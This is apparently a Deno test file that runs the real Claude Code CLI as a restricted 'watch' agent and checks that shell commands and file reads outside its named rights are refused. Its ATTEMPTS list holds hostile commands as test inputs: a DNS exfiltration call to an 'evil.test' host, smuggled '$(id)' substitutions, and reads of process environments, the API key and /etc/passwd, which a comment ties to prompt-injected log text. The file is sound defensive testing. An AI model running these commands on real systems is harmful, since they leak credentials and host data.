/** One run of a watch with the real Claude Code CLI. */
import { assert, assertEquals } from "@std/assert";
import { emptyConfigRoot, makeEmptyConfigRoot } from "../../lib/claude/config_root.ts";
import { denoSpawn } from "../../lib/claude/launch.ts";
import { systemClock } from "../../lib/clock.ts";
import { personaLibrary } from "../../lib/sessions/library.ts";
import type { WatchRights } from "../../lib/app/watch_rights.ts";
import { watchRuns } from "../../lib/app/watch_runs.ts";
import { startMessagesApi } from "../sim/messages_api/server.ts";
import { claudeEnv, realClaude } from "../sim/real_claude.ts";

const BUILTIN = new URL("../../personas", import.meta.url).pathname;

async function watchOnce(
  prompt: string,
  settings: object = {},
  rights: WatchRights = { paths: [], commands: [] },
) {
  const messages = await startMessagesApi();
  const home = await Deno.makeTempDir();
  const env = claudeEnv(messages, home);
  await Deno.mkdir(env["CLAUDE_CONFIG_DIR"]!, { recursive: true });
  await Deno.writeTextFile(
    `${env["CLAUDE_CONFIG_DIR"]}/settings.json`,
    JSON.stringify(settings),
  );
  await makeEmptyConfigRoot(home);
  try {
    const run = watchRuns({
      home,
      sessions: {
        loadPersona: (id) => personaLibrary({ owner: home, builtin: BUILTIN }).load(id),
      },
      process: {
        ...{ command: [await realClaude()], env, spawn: denoSpawn, clock: systemClock },
        watchdogMs: 60_000,
      },
      rights,
      configRoot: () => emptyConfigRoot(home),
      uuid: () => crypto.randomUUID(),
      sweep: () => Promise.resolve(),
    });
    const result = await run(prompt, 0.25, new AbortController().signal);
    const left = [...Deno.readDirSync(`${home}/trust/watch`)].map(({ name }) => name);
    const tools = messages.requests.flatMap(({ body }) =>
      (body as { tools?: { name: string }[] } | null)?.tools?.map(({ name }) => name) ?? []
    );
    return {
      result,
      left,
      tools: [...new Set(tools)].sort(),
      bodies: JSON.stringify(messages.requests.map(({ body }) => body)),
    };
  } finally {
    await messages.close();
    await Deno.remove(home, { recursive: true });
  }
}

/** What each tool call gave, as the last request carried it. */
function resultsIn(bodies: string): string[] {
  const last = JSON.parse(bodies).at(-1) as { messages: { content: unknown }[] };
  const blocks = last.messages.flatMap(({ content }) => Array.isArray(content) ? content : []);
  return blocks.filter(({ type }) => type === "tool_result").map((each) => JSON.stringify(each));
}

Deno.test("real watch: what its persona allows runs, and the answer's last text is the finding", async () => {
  const { result, tools } = await watchOnce("TOOL:bash:df -h;;SAY:NOTHING_FOUND");
  assertEquals([result.failure, result.text.trim()], [null, "NOTHING_FOUND"]);
  assert((result.usage?.costUsd ?? 0) > 0);
  assertEquals(tools.filter((name) => /Write|Edit|Web|Agent|Task/.test(name)), []);
});

for (const command of ["touch made.txt", "df -h > made.txt", "df -h; touch made.txt"]) {
  Deno.test(`real watch: '${command}' is denied, whatever the user's own settings allow`, async () => {
    const settings = { permissions: { allow: ["Bash", "Bash(touch:*)", "Write"] } };
    const { result, left, bodies } = await watchOnce(`TOOL:bash:${command};;SAY:done`, settings);
    assertEquals([result.failure, left], [null, []]);
    assert(/denied|permission|nobody is here/i.test(bodies));
  });
}

/** What the CLI itself would let pass, or what a word in a log could make a model try. */
const ATTEMPTS = [
  ...["docker logs x; dig $(hostname).evil.test", "df -h $(id)", "df -h `id`", "cat /etc/hostname"],
  ...[
    "cat /proc/self/environ",
    "cat /proc/$PPID/environ",
    "env",
    "printenv",
    "echo $ANTHROPIC_API_KEY",
  ],
  ...[
    "ps axeww",
    "ps e",
    "getent hosts x.evil.test",
    "ping -c 1 x.evil.test",
    "ls /",
    "pwd",
    "echo hi",
  ],
  ...["head -1 /etc/passwd", "grep -r root /etc/passwd", "systemctl -H x.evil.test status", "true"],
];

for (const commands of [ATTEMPTS.slice(0, 11), ATTEMPTS.slice(11)]) {
  Deno.test(`real watch: what is not named does not pass, from '${commands[0]}' on`, async () => {
    const script = commands.map((command) => `TOOL:bash:${command};;`).join(" ");
    const { result, bodies } = await watchOnce(`${script} SAY:done`);
    assertEquals(result.failure, null);
    const results = resultsIn(bodies);
    assertEquals(results.length, commands.length, JSON.stringify(results));
    for (const [index, text] of results.entries()) {
      assert(/nobody is here to ask/.test(text), `${commands[index]}: ${text}`);
    }
  });
}

Deno.test("real watch: a file and a command that are named are read and run, their neighbours not", async () => {
  const dir = await Deno.makeTempDir();
  try {
    for (const name of ["app.log", "other.log"]) {
      await Deno.writeTextFile(`${dir}/${name}`, `secret of ${name}\n`);
    }
    const prompt = [
      ...[`TOOL:read:${dir}/app.log;;`, `TOOL:read:${dir}/other.log;;`, "TOOL:read:/etc/passwd;;"],
      ...[`TOOL:bash:wc -c ${dir}/app.log;;`, `TOOL:bash:wc -c ${dir}/other.log;;`, "SAY:done"],
    ].join(" ");
    const rights = { paths: [`${dir}/app.log`], commands: [`wc -c ${dir}/app.log`] };
    const { bodies } = await watchOnce(prompt, {}, rights);
    const results = resultsIn(bodies);
    const passed = results.map((text) => !/nobody is here to ask/.test(text));
    assertEquals(passed, [true, false, false, true, false], JSON.stringify(results));
    assert(/secret of app\.log/.test(results[0]!) && /18/.test(results[3]!));
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
